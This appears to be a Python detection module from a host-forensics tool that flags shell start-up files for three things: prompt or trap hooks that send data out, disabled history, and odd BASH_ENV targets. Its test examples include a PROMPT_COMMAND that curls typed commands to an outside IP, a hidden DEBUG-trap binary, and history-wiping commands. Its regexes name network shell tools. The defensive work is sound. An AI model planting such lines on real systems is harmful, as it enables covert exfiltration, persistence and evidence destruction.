# ruff: noqa: S108 — paths on the examined host, not ours.
"""What a start-up file runs at every prompt or command, and what it does to the history."""

import re
from collections.abc import Iterable, Iterator

from hemostat.detect.check import Files, check, fires, quiet
from hemostat.detect.places import hidden_part, is_temporary
from hemostat.model.evidence import Source
from hemostat.model.finding import Claim, RuleTexts, Subject
from hemostat.model.level import Level
from hemostat.model.path import HostPath, name
from hemostat.model.records import Mechanism, Provenance, StartupLine
from hemostat.model.text import Text

TEXTS = RuleTexts(
    title=Text(en="Every prompt runs something foreign", zh="每次提示符或命令都会触发异常程序"),
    summary=Text(
        en="{file} runs at every prompt or command: {command}",
        zh="{file} 在每次提示符或命令时执行：{command}",
    ),
    benign=Text(
        en="Prompts, shell history and audit logs are made so, with logger or a local file.",
        zh="提示符美化、历史记录与操作审计常用此法，通常写 logger 或本地文件。",
    ),
)
# Characters of a line that are looked at: the patterns are not linear.
_LONGEST = 8192
_HOOK = re.compile(
    r"\bPROMPT_COMMAND(?:\[\d*\])?\+?=(?P<prompt>.+)"
    r"|\btrap\s+(?:--\s+)?(?P<trap>'[^']*'|\"(?:[^\"\\]|\\.)*\"|\S+)\s+"
    r"(?:[\w ]{0,60}\b)?(?:DEBUG|EXIT|ERR|RETURN|0|SIGINT|INT|HUP|SIGHUP)\b"
    r"|^(?:function\s+)?(?:precmd|preexec|chpwd|periodic|zshexit)\s*\(\s*\)(?P<body>.*)"
    r"|^(?:alias\s+)(?:precmd|periodic|cwdcmd|postcmd)\s+(?P<csh>.+)",
    re.DOTALL,
)
_SENDS = re.compile(
    r"/dev/(?:tcp|udp)/|\b(?:curl|wget|ncat|netcat|socat|telnet|ftp|tftp)\s|\bnc\s+-?\S|\bmail\s+-"
    r"|\bopenssl\s+s_client\b|\b(?:python|perl|ruby|php)[\d.]*\s+-[cer]|\bbase64\s+-(?:d|-decode)"
    r"|\bnohup\s|\bsetsid\s|\beval\s+\"?\$\(\s*(?:echo|printf|curl|wget)"
)
_LOCAL = re.compile(r"(?:https?://|/dev/tcp/)(?:127\.0\.0\.1|localhost|\[::1\]|169\.254\.169\.254)")
_PATHS = re.compile(r"(?<![\w$}.:@])(?:/[\w.+-]+(?:/[\w.+-]+)+)")
_WRITES = re.compile(r">>?\s*[\"']?$")


def _line(command: str, path: str = "/etc/profile.d/p.sh", account: str = "") -> StartupLine:
    return StartupLine(
        source=Source(path=HostPath(path), line=1),
        mechanism=Mechanism.SHELL_PROFILE,
        account=account,
        command=command,
    )


@check(
    "linux.shell.prompt-hook",
    level=Level.HIGH,
    confidence=Level.MEDIUM,
    category="shell_profile",
    attack=("T1546.004", "T1546.005"),
    incident_types=("backdoor", "credential_leak"),
    texts=TEXTS,
    next=("keep-evidence", "disable-persistence", "rotate-credentials", "find-entry"),
    by_hand="cat {file}",
    examples=(
        fires(_line("export PROMPT_COMMAND='curl -s http://198.51.100.7/?c=$(history 1)'")),
        fires(_line("trap '/dev/shm/.k \"$BASH_COMMAND\"' DEBUG")),
        fires(_line("PROMPT_COMMAND=/var/tmp/.x/p")),
        quiet(
            _line("PROMPT_COMMAND='history -a; logger -p local6.debug \"$(whoami)\"'"),
            _line("trap 'preexec_invoke_exec' DEBUG"),
            _line('PROMPT_COMMAND=\'printf "\\033]0;%s\\007" "${USER}"\''),
            _line("trap 'rm -f /tmp/x.$$' EXIT"),
        ),
    ),
)
def prompt_hook(lines: Iterable[StartupLine], files: Files) -> Iterator[Claim]:
    """PROMPT_COMMAND, a trap, or zsh's precmd sends something or runs a program from an odd place.

    It runs as whoever works in the shell, as often as he presses return.
    """
    for line in lines:
        if line.mechanism is not Mechanism.SHELL_PROFILE or _is_vouched(line, files):
            continue
        match = _HOOK.search(line.command[:_LONGEST])
        if match is None:
            continue
        text = next((each for each in match.groups() if each), "")
        is_sending = _SENDS.search(text) and not _LOCAL.search(text)
        if is_sending or _runs_odd(text):
            yield Claim(
                subjects=(Subject("file", line.source.path),),
                because=(line,),
                values={"file": line.source.path, "command": line.command[:300]},
                attack=("T1546.005",) if match["trap"] else (),
            )


def _is_vouched(line: StartupLine, files: Files) -> bool:
    fact = files.get(line.source.path)
    return fact is not None and fact.state in (Provenance.PACKAGED, Provenance.PRODUCT)


def _runs_odd(text: str) -> bool:
    """Whether a text runs a program of a temporary or hidden place; writing there is no matter."""
    for match in _PATHS.finditer(text):
        path, before = match[0], text[: match.start()]
        if path.startswith("/dev/") and not path.startswith("/dev/shm/"):
            continue
        if not (is_temporary(path) or hidden_part(path)) or _WRITES.search(before):
            continue
        # The first word of a command runs; further words are what it works on.
        head = re.split(r"[;&|(`{\n]|\bthen\b|\bdo\b", before)[-1]
        words = head.strip(" \"'").split()
        if not words or words[-1] in (".", "source", "sh", "bash", "exec", "eval", "command"):
            return True
    return False


HISTORY_TEXTS = RuleTexts(
    title=Text(en="A start-up file turns the shell's history off", zh="启动文件关闭了命令历史记录"),
    summary=Text(
        en="{file} keeps commands from being recorded: {command}",
        zh="{file} 使命令不被记录：{command}",
    ),
    benign=Text(
        en="Some hardening guides and kiosk systems do so on purpose; ask.",
        zh="部分加固规范或自助终端会有意这样设置；请确认。",
    ),
)
_HISTORY_OFF = re.compile(
    r"\bHISTFILE=[\"']?(?:/dev/null|/dev/zero)?[\"']?\s*(?:$|[;&])"
    r"|\bunset\s+(?:-v\s+)?[\w ]{0,60}\bHISTFILE\b"
    r"|\bHIST(?:FILE)?SIZE=[\"']?0[\"']?\s*(?:$|[;&])|\bset\s+\+o\s+history\b"
    r"|\bln\s+-\w*s\w*\s+/dev/null\s+\S*(?:bash|zsh)_history|\bhistory\s+-c\b.*\bhistory\s+-w\b"
    r"|\bSAVEHIST=0\b|\bHISTIGNORE=[\"']?\*[\"']?\s*(?:$|[;&])"
    r"|\b(?:rm|shred|unlink)\s+\S*\s*\S*\.(?:bash|zsh|sh|ash|python|mysql)_history\b"
    r"|(?:^|[^>\d&])>\s*(?:~|\$HOME|/root|/home/\S{1,64})/\.\w+_history\b"
    r"|/dev/null\s+>\s*\S{0,64}\.\w+_history\b"
)
_CLEARED = re.compile(r"\bhistory\s+-c")
# Windows that share one history: what was typed is saved, then read anew.
_SHARED = re.compile(r"\bhistory\s+-[aw]\s*(?:;|&&)\s*history\s+-c\s*(?:;|&&)\s*history\s+-r\b")


@check(
    "linux.shell.history-off",
    level=Level.MEDIUM,
    confidence=Level.MEDIUM,
    category="shell_history",
    attack="T1070.003",
    incident_types=("backdoor", "insider"),
    texts=HISTORY_TEXTS,
    next=("keep-evidence", "ask-owner"),
    by_hand="grep -n HIST {file}",
    examples=(
        fires(_line("export HISTFILE=/dev/null")),
        fires(_line("unset HISTFILE", "/root/.bashrc", "root")),
        fires(_line("set +o history", "/home/li/.bashrc", "li")),
        fires(_line("unset HISTFILE; export HISTSIZE=0")),
        fires(_line("history -c && rm -f ~/.bash_history")),
        fires(_line("ln -sf /dev/null /root/.bash_history")),
        fires(_line("cat /dev/null > ~/.bash_history")),
        fires(_line("history -c")),
        quiet(_line("history -c", "/home/li/.bash_logout", "li")),
        quiet(_line("HISTSIZE=1000"), _line("HISTCONTROL=ignoreboth"), _line("HISTFILE=~/.h")),
        quiet(_line('[ -n "$MC_SID" ] && unset HISTFILE')),
        quiet(_line('PROMPT_COMMAND="history -a; history -c; history -r; $PROMPT_COMMAND"')),
        fires(_line("history -a; history -c; history -r; history -c")),
    ),
)
def history_off(lines: Iterable[StartupLine], files: Files) -> Iterator[Claim]:
    """Commands are not recorded: for everybody or root medium, for one account low."""
    for line in lines:
        if line.mechanism is not Mechanism.SHELL_PROFILE or _is_vouched(line, files):
            continue
        # A logout file may clear what it likes; midnight commander's subshell has no history.
        if "MC_SID" in line.command or not _stops_history(line):
            continue
        is_wide = line.account in ("", "root")
        yield Claim(
            subjects=(Subject("file", line.source.path),),
            because=(line,),
            values={"file": line.source.path, "command": line.command[:200]},
            level=Level.MEDIUM if is_wide else Level.LOW,
        )


def _stops_history(line: StartupLine) -> bool:
    text = _SHARED.sub("", line.command[:_LONGEST])
    is_log_out = name(line.source.path or "").endswith("logout")
    return bool(_HISTORY_OFF.search(text)) or (_CLEARED.search(text) is not None and not is_log_out)


ENV_TEXTS = RuleTexts(
    title=Text(
        en="Every script first runs a file from an odd place", zh="所有脚本启动前都会执行异常文件"
    ),
    summary=Text(
        en="{variable} in {file} makes each shell script run {value} first.",
        zh="{file} 中的 {variable} 令每个 shell 脚本先执行 {value}。",
    ),
    benign=Text(
        en="Environment modules and Lmod set BASH_ENV to a file of their package.",
        zh="environment-modules、Lmod 会将 BASH_ENV 指向其软件包文件。",
    ),
)
_START_UP = (".bash", ".profile", ".sh", ".z", ".k")
_ENV = re.compile(r"(?:^|[\s;])(?P<name>BASH_ENV|ENV|ZDOTDIR)=[\"']?(?P<value>[/~$][^\s\"';]*)")


@check(
    "linux.shell.script-environment",
    level=Level.HIGH,
    confidence=Level.MEDIUM,
    category="shell_profile",
    attack="T1546.004",
    incident_types=("backdoor",),
    texts=ENV_TEXTS,
    next=("keep-evidence", "disable-persistence", "find-entry"),
    by_hand="cat {file} {value}",
    examples=(
        fires(_line("export BASH_ENV=/var/tmp/.e", "/etc/environment")),
        fires(_line("ENV=/dev/shm/e; export ENV")),
        quiet(_line("export BASH_ENV=/usr/share/lmod/lmod/init/bash"), _line("ENV=production")),
        quiet(
            _line("BASH_ENV=/root/.bashrc", "/root/.bash_profile", "root"), _line("ENV=$HOME/.shrc")
        ),
    ),
)
def script_environment(lines: Iterable[StartupLine], files: Files) -> Iterator[Claim]:
    """BASH_ENV, ENV or ZDOTDIR points to a temporary or hidden file, or one others may write."""
    for line in lines:
        match = _ENV.search(line.command[:_LONGEST])
        if match is None or _is_vouched(line, files):
            continue
        value = match["value"]
        fact = files.get(value)
        is_start_up_file = value.rpartition("/")[2].startswith(_START_UP)
        is_odd = is_temporary(value) or (bool(hidden_part(value)) and not is_start_up_file)
        if is_odd or (fact is not None and fact.is_writable_by_others):
            yield Claim(
                subjects=(Subject("file", line.source.path), Subject("file", value)),
                because=(line, *((fact,) if fact else ())),
                values={"file": line.source.path, "variable": match["name"], "value": value},
            )
